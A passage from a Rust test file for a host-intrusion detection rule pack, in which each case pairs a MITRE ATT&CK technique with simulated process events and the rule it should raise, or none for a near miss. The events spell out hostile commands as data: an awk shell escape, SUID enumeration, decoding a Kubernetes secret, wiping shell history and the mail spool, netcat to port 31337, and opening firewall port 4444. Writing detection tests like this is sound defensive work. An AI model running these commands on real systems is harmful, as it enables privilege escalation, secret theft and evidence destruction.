        ("T1059.004", "awk system() into a bare shell", vec![exec(&p("/usr/bin/dash", &["/bin/sh"]), &child_of(&p("/usr/bin/gawk", &["awk", "BEGIN {system(\"/bin/sh\")}"]), &sh()))], "SHR-EXEC-013"),
        ("T1059.004", "env running a script is no escape", vec![exec(&p("/usr/bin/bash", &["bash", "/opt/app/run.sh"]), &child_of(&p("/usr/bin/env", &["env", "bash", "/opt/app/run.sh"]), &sh()))], ""),
        ("T1548.001", "find -perm -u=s", vec![run("/usr/bin/find", &["find", "/", "-perm", "-u=s", "-type", "f"])], "SHR-PRIV-007"),
        ("T1140", "base64 -d of a blob on the command line", vec![exec(&p("/usr/bin/base64", &["base64", "-d"]), &child_of(&p("/usr/bin/dash", &["sh", "-c", "echo SGVsbG8gZnJvbSBBdG9taWMgUmVkIFRlYW0K | base64 -d"]), &sh()))], "SHR-EVA-034"),
        ("T1140", "base64 -d of a secret from kubectl", vec![exec(&p("/usr/bin/base64", &["base64", "-d"]), &child_of(&p("/usr/bin/dash", &["sh", "-c", "kubectl get secret db -o jsonpath={.data.pw} | base64 -d"]), &sh()))], ""),
        ("T1486", "gpg with a piped passphrase", vec![run("/usr/bin/gpg", &["gpg", "--batch", "--yes", "--passphrase-fd", "0", "-c", "/home/u/report.pdf"])], "SHR-IMP-008"),
        ("T1486", "gpg signing a release", vec![run("/usr/bin/gpg", &["gpg", "--detach-sign", "--armor", "pkg.tar.gz"])], ""),
        ("T1489", "systemctl stop cron", vec![run("/usr/bin/systemctl", &["systemctl", "stop", "cron"])], "SHR-IMP-006"),
        ("T1489", "killall -TERM of a daemon (signal)", vec![signal("/usr/bin/killall", 15, "/usr/sbin/cron")], "SHR-IMP-007"),
        ("T1489", "systemd stopping a daemon", vec![{
            let mut e = signal("/usr/lib/systemd/systemd", 15, "/usr/sbin/cron");
            e.parent = None;
            e.ancestors.clear();
            e
        }], ""),
        ("T1048.003", "php -S serving a directory", vec![run("/usr/bin/php8.2", &["php", "-S", "0.0.0.0:8000"])], "SHR-C2-012"),
        ("T1562.004", "ufw allow", vec![run("/usr/sbin/ufw", &["ufw", "allow", "4444/tcp"])], "SHR-EVA-027"),
        ("T1562.004", "ufw's rules file edited", vec![write("/usr/bin/sed", "/etc/ufw/user.rules")], "SHR-EVA-036"),
        ("T1070.003", "HISTFILE=/dev/null exported", vec![{
            let mut t = p("/usr/bin/ls", &["ls"]);
            t.set_env_var("HISTFILE", "/dev/null");
            exec(&t, &sh())
        }], "SHR-EVA-033"),
        ("T1070.003", "truncate -s0 on the history", vec![open(&p("/usr/bin/truncate", &["truncate", "-s0", "/root/.bash_history"]), &sh(), "/root/.bash_history", &["write", "create"])], "SHR-EVA-004"),
        ("T1070.002", "the mail spool overwritten", vec![open(&p("/usr/bin/dash", &["sh", "-c", "echo 0> /var/spool/mail/root"]), &sh(), "/var/spool/mail/root", &["write", "create", "truncate"])], "SHR-EVA-001"),
        ("T1571", "nc to 31337 on loopback", vec![connect(&p("/usr/bin/nc.openbsd", &["nc", "127.0.0.1", "31337"]), &sh(), "127.0.0.1", 31337)], "SHR-C2-005"),
        ("T1571", "curl to a dev server on 8081 of loopback", vec![connect(&p("/usr/bin/curl", &["curl", "localhost:8081"]), &sh(), "127.0.0.1", 8081)], ""),
        ("T1105", "wget from localhost into /tmp", vec![run("/usr/bin/wget", &["wget", "-q", "-O", "/tmp/t", "http://localhost:8000/t"])], "SHR-EXEC-012"),
        ("T1222.002", "chmod a+w on a file in a data directory", vec![chmod(&p("/usr/bin/chmod", &["chmod", "a+w", "/srv/app/x.conf"]), &sh(), "/srv/app/x.conf", 0o100666)], "SHR-EVA-032"),
        ("T1222.002", "chmod 777 in /tmp (not watched)", vec![chmod(&p("/usr/bin/chmod", &["chmod", "777", "/tmp/x"]), &sh(), "/tmp/x", 0o100777)], ""),
        ("T1222.002", "a sticky shared directory", vec![chmod(&p("/usr/bin/chmod", &["chmod", "1777", "/srv/share"]), &sh(), "/srv/share", 0o41777)], ""),
    ]
}

/// Each variant raises the rule it must (and its events pass the kernel's first-stage filter);
/// each near miss raises nothing at all.
#[test]
fn every_technique_variant_and_near_miss() {
    let policy = Policy::default_pack().unwrap();
    let mut failures = Vec::new();
    for (technique, what, events, rule) in cases() {
        let ids = raised(&policy, &events);
        let ok = if rule.is_empty() {
            ids.is_empty()
        } else {
            ids.iter().any(|id| id == rule)
        };
        if !ok {
            failures.push(format!(
                "{technique} {what}: want {}, got {ids:?}",
                if rule.is_empty() { "nothing" } else { rule }
            ));
        }
        if !rule.is_empty() {
            let info = policy.rule_by_id(rule).unwrap();
            let parent = technique.split('.').next().unwrap();
            assert!(
                info.mitre
                    .iter()
                    .any(|m| m == technique || m.split('.').next() == Some(parent)),
                "{rule} is not tagged {technique}: {:?}",
                info.mitre
            );
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}
